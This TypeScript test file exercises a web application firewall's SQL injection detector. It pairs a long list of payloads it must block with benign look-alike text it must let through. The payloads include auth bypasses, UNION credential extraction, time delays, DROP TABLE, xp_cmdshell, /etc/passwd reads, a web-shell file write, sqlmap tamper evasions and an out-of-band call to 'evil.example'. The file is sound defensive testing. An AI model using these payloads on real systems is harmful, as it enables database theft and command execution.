/**
 * SQL injection detector (src/lib/waf/sqli.ts) through the whole filter: hand-written attacks in
 * every dialect and shape (breakouts, numeric contexts, UNION, stacked, time/error/file
 * functions, PostgreSQL JSON operators and casts, comment obfuscation) and benign near-misses
 * (prose with SQL words and apostrophes, code snippets) that must pass.
 */
// zod-openapi must extend zod before the config schema is built (as src/app.ts does first).
import "@hono/zod-openapi";
import { describe, expect, it } from "vitest";
import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
import { evaluateRequest, type WafRequest } from "../../src/lib/waf/index.ts";
import { detectSqli } from "../../src/lib/waf/sqli.ts";
import type { Inspected } from "../../src/lib/waf/types.ts";

const DEFAULT = edgeConfigSchema.parse({ security: {} }).security;
const BROWSER =
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15";

function req(url: string, body: string | null = null, contentType?: string): WafRequest {
  const headers = new Headers({ "user-agent": BROWSER });
  if (contentType !== undefined) headers.set("content-type", contentType);
  return {
    method: body === null ? "GET" : "POST",
    url,
    headers,
    visitor: { ip: "203.0.113.7", country: "DE", asn: 3320 },
    body,
  };
}
const query = (v: string) => evaluateRequest(req(`https://edge.test/v1/search?q=${encodeURIComponent(v)}`), DEFAULT);
const form = (v: string) =>
  evaluateRequest(
    req("https://edge.test/v1/items", `name=test&data=${encodeURIComponent(v)}`, "application/x-www-form-urlencoded"),
    DEFAULT,
  );
const json = (v: string) =>
  evaluateRequest(req("https://edge.test/v1/items", JSON.stringify({ text: v }), "application/json"), DEFAULT);

/** Each value blocked as SQL injection, as a query value and as a form value. */
function itBlocksSqli(values: readonly string[]): void {
  it.each(values)("blocks %j", (payload) => {
    expect(query(payload), `query: ${payload}`).toMatchObject({ action: "block", class: "sqli" });
    expect(form(payload), `form: ${payload}`).toMatchObject({ action: "block", class: "sqli" });
  });
}
/** Each value allowed, as a query value and as a JSON text field. */
function itAllows(values: readonly string[]): void {
  it.each(values)("lets %j through", (text) => {
    expect(query(text).action, `query: ${text}`).toBe("allow");
    expect(json(text).action, `json: ${text}`).toBe("allow");
  });
}

const ATTACKS = [
  // a number, an operator and a call or a keyword
  "1-sleep(5)",
  "1-if(1=1,sleep(5),0)",
  "2-version()",
  "10-benchmark(1000000,md5(1))",
  "1+select 1",
  // breakouts with parentheses and double quotes, UNION with comment truncation
  `1")) as x where 1071=1071 union all select null,null,null#`,
  `1')) union all select null,concat(0x71,user(),0x71),null-- -`,
  `x' UNION/**/SELECT/**/username,password/**/FROM/**/users--`,
  `-7 /*!50000union*/ /*!50000select*/ 1,2,version()--+`,
  `1 uNiOn aLL sElEcT @@version,2#`,
  // auth bypass
  `admin'--`,
  `admin')#`,
  `' or ''='`,
  `" or ""="`,
  `x' OR 'a'='a`,
  // boolean / numeric contexts
  `42 AND 5283=5283`,
  `1 AND ORD(MID((SELECT IFNULL(CAST(password AS CHAR),0x20) FROM users LIMIT 0,1),1,1))>64`,
  `1' AND (SELECT 3345 FROM (SELECT(SLEEP(5)))abc)-- xyz`,
  `or 1=1--`,
  // time-based in every dialect
  `1'; WAITFOR DELAY '0:0:5'--`,
  `foo')waitfor delay'0:0:20'--`,
  `1'));begin dbms_lock.sleep(5); end and (('a'='a`,
  `1 AND 7141=(SELECT 7141 FROM PG_SLEEP(5))`,
  `1' AND 1=(SELECT COUNT(*) FROM sqlite_master WHERE randomblob(500000000))--`,
  `2010-01-01'+sleep(20)+'`,
  // stacked queries and procedures
  `1; DROP TABLE users`,
  `x'; exec master..xp_cmdshell 'ping 10.0.0.1'--`,
  `'; DECLARE @q VARCHAR(99); SET @q='\\\\evil.example\\x'; EXEC master.dbo.xp_dirtree @q;--`,
  `1;INSERT /*x*/INTO accounts(id) VALUES (3)-- -`,
  // error-based / out-of-band / files
  `1 AND EXTRACTVALUE(4526,CONCAT(0x5c,0x7171,(SELECT user()),0x7171))`,
  `1' AND 1=utl_inaddr.get_host_address((SELECT banner FROM v$version WHERE rownum=1))--`,
  `' UNION SELECT load_file('/etc/passwd'),2--`,
  `1 INTO OUTFILE '/var/www/html/s.php'`,
  // PostgreSQL JSON operators and casts
  `OR '{"a":1}' ?| array['a']`,
  `OR '{"b":2}'::jsonb <@ '{"a":1,"b":2}'::jsonb`,
  `OR '{"a":{"b":"c"}}'::json #>> '{a,b}' = 'c'`,
  `1' and unistr(password)::bool--`,
  // builders, probes, obfuscation
  `1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
  `' group by password having 1=1--`,
  `(SELECT CHAR(113)+CHAR(118)+CHAR(112))`,
  `1.e(ascii 1.e(substring(1.e(select password from users limit 1),1,1)))`,
  `9999 or /*+ hint */ true`,
  `email@example.com';`,
  // typographic quotes as quotes, booleans glued to numbers, keywords split by comments
  `’ or ‘1’=’1`,
  `“ or “1”=“1`,
  `1or1=1`,
  `uni/**/on sel/**/ect`,
  `1 uni/**/on select all from where`,
  // suffixes: a condition cut off by a comment, a time delay, a package routine, an escaped quote
  ` or isNULL(1/0) /*`,
  `sleep(__TIME__)#`,
  `'||UTL_HTTP.REQUEST`,
  `\\'; desc users; --`,
  // a comment closed from another parameter; a T-SQL batch fragment
  `*/=1--`,
  `@var select @var as var into temp end --`,
  // a statement spelled in hex (ASCII and UTF-16LE) for EXEC(@s) elsewhere; trace-log evasion
  `0x77616974666F722064656C61792027303A303A31302700`,
  `0x730065006c00650063007400200040004000760065007200730069006f006e00`,
  `--sp_password`,
  // column counting by position, with no comment or quote (the value lands after a number)
  ` ORDER BY 7`,
  `5 group by 3 `,
  // sqlmap's boundaries: a WHERE clause of its own after the breakout, then its probe
  `1' WHERE 4410=4410 OR 2=3--`,
  `-31')) AS kqvb WHERE 8120=8120 ORDER BY 4#`,
  `7") WHERE 2231=2231;SELECT 1--`,
  `3 WHERE 5150=5150 AND 9=9`,
  // a WHERE clause of the injector's own on a subquery (blind extraction one character at a time)
  "' WHERE SUBSTRING((select column_name from `shop.orders` limit 1),1,1)='A'#",
  // MSSQL reading a file into a table after the breakout
  "x'; bulk insert users from 'c:\\boot.ini'--",
  // Oracle's Java gateway running a program, as a whole statement
  "SELECT DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper','main','/bin/sh','-c','id') FROM dual",
  // boolean probes through functions that choose by a condition
  `ELT(6120=6120,7)`,
  `IIF(4404=4404,1,1/0)`,
  `2));IF(5015=5015) SELECT 5015 ELSE DROP FUNCTION abc--`,
  `4 WHERE 6006=6006 ORDER BY 2--`,
  `2' IN BOOLEAN MODE) ORDER BY 3#`,
  `(CASE WHEN 7171=7171 THEN 7171 ELSE NULL END)`,
  `5;SELECT CASE WHEN 1234=5678 THEN 1 ELSE NULL END--`,
  // MySQL's implicit conversions: an operator alone in quotes, a negated comparison on the application's value
  `'XOR'`,
  `a' NOT RLIKE 'b`,
  // union select of a table's columns or a negative number; the double query's FLOOR(RAND(0)*2); stacked file reads and deletes
  `-7 union select t.* from accounts t`,
  `(42)union select-1,name,3 from users`,
  `9' or 1 group by concat(version(),floor(rand(0)*2))having min(0) or 1-- `,
  `3;load data local infile '/etc/passwd' into table x`,
  `8; delete quick from logs`,
  `1 or 1=current_user`,
];

const BENIGN = [
  // a number, an operator and a word that is neither a call nor a keyword
  "3-year warranty / cover for accidental damage",
  "2-pack (blue)",
  "1-2 business days",
  "the 'or' branch is wrong",
  "It's where select statements go, and the 'where' (select from the list) clause",
  "the bulk insert from the warehouse is slow",
  "select a union rep",
  "drop me a line",
  "order by price",
  "Order by 2 pm for next-day delivery",
  "Please order by 5",
  "Please select the union option in the drop-down and then click Save.",
  "I'd like to drop the reservation; please update it.",
  "it's 1 or 2 people",
  "O'Brien & D'Angelo; O'Neil",
  "C'est l'heure d'aller à l'école ; n'est-ce pas ?",
  "The word 'select' appears in the title, and so does 'union'",
  "Is 'having' a gerund here? 'Having finished, she left.'",
  "The 'drop table' in the conference room needs fixing",
  "Results: 7 * 7 = 49 and 12 / 4 = 3; the kids loved the quiz.",
  "case when you need it then call me",
  "I declare @bob the winner",
  "sleep(1) python",
  "?q=sleep(1) python",
  "map 'cat' -> 'dog'",
  "std::string name; Foo::Bar::baz()",
  "/*! jQuery v3.7.1 | (c) OpenJS Foundation */",
  "SELECT * FROM users WHERE id = 42 ORDER BY created_at DESC LIMIT 20;",
  "SELECT CONCAT(first_name, ' ', last_name) FROM people",
  "SELECT IIF(a > b, 'x', 'y') FROM t",
  "ALTER TABLE users ADD COLUMN age int;",
  "cursor.execute('SELECT id FROM users WHERE email = %s', (email,))",
  "credit union select savings",
  "5'10\" tall",
  "it’s 1 or 2 people, she said “maybe” and left",
  "The word ‘select’ appears in the title, and so does ‘union’",
  "He’s 5′10″ tall",
  "1or2 items",
  "foo/**/bar",
  "sleep(__init__)",
  "@john select @mary as the lead",
  "end of comment */ = the end",
  "or max(price) -- the highest",
  "0x48656c6c6f20776f726c6421",
  "0x52908400098527886E0F7030069857D2E4169EE7",
  "Meet me at 5 where 2 roads cross",
  "Room 5 where 2 = 2 beds",
  // shop searches (libinjection's false positives): phrases, a quoted keyword, inches, a sentence after `;`
  `'countdown calendar" and "disney:`,
  `vintage , browning "LIKE"`,
  `select 'and'`,
  `chain measures 18" AND IS COMPOSED COMPLETELY OUT OF BRASS`,
  "1; exec will create the case 7",
  "Math.floor(Math.random() * 2)",
  "I load data into the sheet; delete the rest",
  "in case when you are late then call",
  "the 'where' clause and where 1 = 1 in docs",
  '=IF(A1=2, "yes", "no")',
];

describe("sqli detector", () => {
  it.each(ATTACKS)("blocks %s", (payload) => {
    expect(query(payload).action, `query: ${payload}`).toBe("block");
    expect(form(payload).action, `form: ${payload}`).toBe("block");
  });

  itAllows(BENIGN);

  it("names the finding with a stable sqli rule id", () => {
    const d = query(`1")) as x where 1071=1071 union all select null,null,null#`);
    expect(d).toMatchObject({ action: "block", class: "sqli", ruleId: "sqli-union-select" });
    expect(query(`OR '{"a":1}' ?| array['a']`).class).toBe("sqli");
  });

  it("reads PEM armour after a quote as text, and a truncation as one", () => {
    const pem = 'PRIVATE_KEY="-----BEGIN RSA PRIVATE KEY-----\\nKh9NV...\\n-----END RSA PRIVATE KEY-----\\n"';
    expect(query(pem).action).toBe("allow");
    expect(json(pem).action).toBe("allow");
    // Whatever follows `--` is the comment: a long option's shape is no reason to let it pass.
    for (const payload of [
      "admin'--",
      "admin' -- -",
      "1' --+",
      "x' --comment",
      "') --",
      "admin'-- and-more",
      "admin'--ab-cd",
      "admin' --max-size",
      // PEM armour is text only where a setting's value opens with it.
      "admin'-----BEGIN A-----",
      "admin')-----BEGIN A-----",
      "admin' -----END A-----",
    ])
      expect(query(payload), payload).toMatchObject({ action: "block", class: "sqli" });
  });
});

describe("sqli detector: values closed by a backtick or `$$`, and sqlmap's other higher-level shapes", () => {
  // A MySQL identifier (`` SELECT `col` FROM t ``) and a PostgreSQL dollar-quoted string (`$$…$$`)
  // are closed like a quoted string; sqlmap's boundaries at --level 3 to 5 use both.
  const CLOSED = [
    "5` WHERE 77=77 AND 77=77-- abc",
    "name`=`name` AND 31=31 AND `name`=`name",
    "1` AND SLEEP(5)-- x",
    "col` UNION ALL SELECT NULL,NULL-- x",
    "7$$ ORDER BY 3-- x",
    "-4411$$ OR 12=12-- q",
    "x$$ UNION ALL SELECT NULL-- x",
    // a group condition after the value, and a boolean test for an ORDER BY value
    "1 HAVING 7552=7552",
    "1') HAVING 3=3-- x",
    "(2944=2944)*5528",
  ];
  itBlocksSqli(CLOSED);

  // Backticks are markdown's and JavaScript's, `$$` is money and PL/pgSQL: only an identifier or
  // number right before the closer, then SQL strong enough to block, counts.
  const NEAR = [
    "`npm install` or `yarn`",
    "the `where` clause or the `order by`",
    "x`y` and z where 1 = 1",
    "a`b or c",
    "1`or`2",
    "costs $$ and more",
    "func$$ or 2 days",
    "Dollar quoting: $$it is fine$$ and so is $tag$x$tag$",
    "body AS $$ BEGIN RETURN 1; END $$",
    "5 having 2 kids",
    "(2=2)*3 math",
    "(3=4)*2",
    "5$$ -- not bad",
    "10$$ = 3 pizzas",
    "5$$ -> 10",
    "5' -> 10$$",
    "James` = 5 years old",
    "id` = 1",
    "sql`EXISTS (SELECT 1 FROM t WHERE id = ${id})`",
  ];
  itAllows(NEAR);
});

describe("sqli detector: sqlmap's tamper evasions", () => {
  // What `sqlmap --tamper=NAME` makes of its payloads (written here, not copied): MySQL's BINARY
  // before literals, UNION with a table value constructor, comments or control characters glued
  // where spaces were, `+` for every space in a single token, a value wrapped in a cast, a number
  // glued to UNION as Oracle reads it.
  const TAMPERED = [
    "1 AND binary 7411=binary 7411",
    "1) UNION ALL SELECT binary NULL,binary NULL-- abcd",
    "5) UNION ALL VALUES (NULL,NULL)-- x",
    "5) UNION ALL VALUES ROW(NULL)-- x",
    "1/**_**/WAITFOR/**_**/DELAY/**_**/'0:0:5'",
    "1#qwe\nAND#rty\n6021=6021",
    "1--abc\nOR--def\n6021=6021",
    "1\u0002AND\u001a6021=6021",
    "1+UNION+ALL+SELECT+NULL--+x",
    "1+ORDER+BY+2--+x",
    "cast(1 as decimal)) ORDER BY 4-- x",
    "3DUNION ALL SELECT NULL-- x",
    // a literal compared by LIKE or RLIKE after AND, in a value of words and numbers only
    "1 AND 3896 LIKE 3896",
    "1 AND 3896 RLIKE 3896",
  ];
  itBlocksSqli(TAMPERED);

  // Comments as code writes them (after a space, at a line's start, `"#id"` selectors), tagged
  // templates, `+` in words.
  const NEAR = [
    '# css selector\nplaywright-cli click "#main > button.submit"\n\n# role locator',
    "x = 1 # one\ny = 2 # two\nz = x or y",
    "a/*b*/c and d/*e*/f",
    "sql`SELECT id FROM t WHERE a = ${a} AND b = ${b}`",
    "binary search tree",
    "the union values we share",
    "c++ and c#",
    "C# or F#, pick one",
    "Sizes 10 or 12 like 14",
    "rated 4 or 5 like most",
    // found by a review that went looking for them (each blocked by a first version)
    "-- top customers\nSELECT name, COUNT(*) FROM t GROUP BY lower(name) ORDER BY 2",
    "Why does SELECT name, COUNT(*) FROM t GROUP BY lower(name) ORDER BY 2",
    'syntax error at or near ")" LINE 1: ...GROUP BY lower(x)) ORDER BY 1',
    "string_agg(name, ',') order by 1",
    "GROUP_CONCAT(x) ORDER BY 1 -- first",
    "3 union values (5 min read)",
    'X="-----BEGIN PUBLIC KEY-----\\nMIIB\\n-----END PUBLIC KEY-----\\n"\nY="-----BEGIN PUBLIC KEY-----\\nMIIB\\n-----END PUBLIC KEY-----\\n"\n',
  ];
  itAllows(NEAR);
});

describe("sqli detector: Ghauri's tests", () => {
  // A stacked query that opens with a parenthesis (PostgreSQL's heavy query), Oracle's USER_LOCK.SLEEP.
  itBlocksSqli([
    "1;(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))",
    "1');(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))--",
    "1 AND 8675=USER_LOCK.SLEEP(5)",
  ]);
  itAllows(["ok;(select one)", "Call me;(select the best option)", "fine;(SELECT * FROM t) is the query I run"]);
});

/** Sentences with apostrophes, quotes, numbers and SQL-ish words, as long text has them. */
function longProse(chars: number): string {
  const sentences = [
    "O'Brien's team didn't like the 3 options, so we picked \"none\".",
    "Select the union option, or drop me a line if it isn't clear.",
    "We ordered 12 items from the store and 4 of them were late.",
    "Here's what I run: db.select().from(orders).where(eq(orders.customer, name));",
    "Is 'having' a gerund here? She said 'yes' and left at 5.",
  ];
  let out = "";
  for (let i = 0; out.length < chars; i++) out += sentences[i % sentences.length] + " ";
  return out.slice(0, chars);
}
const inspected = (text: string): Inspected => ({
  text,
  lower: text.toLowerCase(),
  raw: text,
  hadNull: false,
  field: { kind: "body", name: "text", where: "body", key: "text", value: text },
});

describe("sqli detector on long values (hot spots and windows)", () => {
  const LONG_ATTACKS = [
    `x' OR 'a'='a`,
    `1' UNION SELECT username, password FROM users--`,
    `'; DROP TABLE users;--`,
    `1' AND SLEEP(5)--`,
    `admin'--`,
    `1 union select null,null`,
    `'; exec master..xp_cmdshell 'dir'--`,
  ];
  it.each(LONG_ATTACKS)("finds %s at the start, in the middle and at the end of 3 KiB of text", (payload) => {
    const text = longProse(3_000);
    for (const v of [`${payload} ${text}`, `${text} ${payload} ${text}`, `${text} ${payload}`]) {
      expect(detectSqli(inspected(v))?.score ?? 0, v.slice(0, 40)).toBeGreaterThanOrEqual(5);
    }
  });

  it("lets 64 KiB of prose with quotes, numbers and a code snippet through", () => {
    expect(detectSqli(inspected(longProse(65_536)))?.score ?? 0).toBeLessThan(5);
    expect(json(longProse(8_000)).action).toBe("allow");
  });

  it("finds keyword-only fragments without punctuation", () => {
    for (const v of [
      "exec master.",
      'EXECUTE IMMEDIATE "',
      "Xunionselectfrom",
      "procedure analyse (",
      "/CREATE TABLE Persons",
      "1.e.tables",
      "encode=(",
      " UNION ALL SELECT NULL ",
    ]) {
      expect(detectSqli(inspected(v))?.score ?? 0, v).toBeGreaterThanOrEqual(5);
    }
  });
});
